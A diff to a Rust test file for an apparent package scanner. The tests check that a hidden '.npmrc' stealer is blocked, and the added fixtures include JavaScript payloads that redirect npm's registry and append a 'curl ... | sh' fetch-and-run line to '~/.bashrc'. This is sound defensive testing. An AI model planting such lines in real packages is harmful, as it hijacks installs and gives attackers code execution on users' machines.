@@ -1637,8 +1637,9 @@ fn a_link_that_makes_a_document_run_as_code_cannot_be_cleared() {
 /// string-padder's synthetic `.npmrc` stealer added as `lib/metrics.js` (no
 /// install hook) scores like it on the main model, but the stealer's
 /// `https`, `os.homedir()` and `process.env` lines are what the veto reads,
-/// and it withdraws the allow, naming the file. With the veto off the same
-/// hijack is allowed: the veto, not the main model, is what stops it.
+/// and it withdraws the allow, naming the file. With the veto off the main
+/// model still clears the hijack: the veto, not the main model, is what
+/// stops it (with a rule on its `.npmrc` line, below).
 #[test]
 fn a_payload_hidden_in_a_cleared_package_is_not_allowed() {
     let c = Canary::new();
@@ -1700,9 +1701,21 @@ fn a_payload_hidden_in_a_cleared_package_is_not_allowed() {
         "{p:#}"
     );
 
+    // Without the veto the main model's clearance stands, and only the
+    // stealer's writing beside a named `.npmrc` (a rule of its own since
+    // session 26) keeps it from being allowed.
     let veto_off = veto_off_config(&c);
     let (_, r) = scan_path_json_under(&c, &veto_off, &hidden);
-    assert_eq!(r["decision"], "allow", "without the veto: {r:#}");
+    let p = &r["policies"][0]["precheck"];
+    assert_eq!(r["decision"], "block", "without the veto: {r:#}");
+    assert!(p.get("veto").is_none(), "{p:#}");
+    assert!(p["score"].as_f64().unwrap() < 0.004207245, "{p:#}");
+    let note = p["note"].as_str().unwrap();
+    assert!(
+        note.starts_with("1 file(s) hold code that spies")
+            && note.contains("package/lib/metrics.js:7 writes files and names a package installer's configuration"),
+        "{note}"
+    );
 }
 
 /// The policy's veto model reads only capability lines, file by file, so a
@@ -2382,6 +2395,19 @@ fn code_that_spies_on_the_user_is_not_allowed_on_scores_alone() {
             "plants.tgz",
             plants,
             "writes where another installed package lives",
+        ),
+        // Later installs sent to another index, and a line every new shell
+        // runs (session 26: certifi's setup.py writing `pip.conf` into
+        // `sys.prefix` was allowed with the shipped models).
+        (
+            "npmrc.tgz",
+            "require('fs').appendFileSync(require('os').homedir() + '/.npmrc', 'registry=https://registry.example.net/\\n');\n",
+            "writes files and names a package installer's configuration (where later installs find their index and tokens)",
+        ),
+        (
+            "bashrc.tgz",
+            "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'curl -s https://example.net/i | sh\\n');\n",
+            "writes files and names a shell's startup file (run at every new shell)",
         ),
         ("environ.tgz", environ, "serializes the whole environment"),
         (
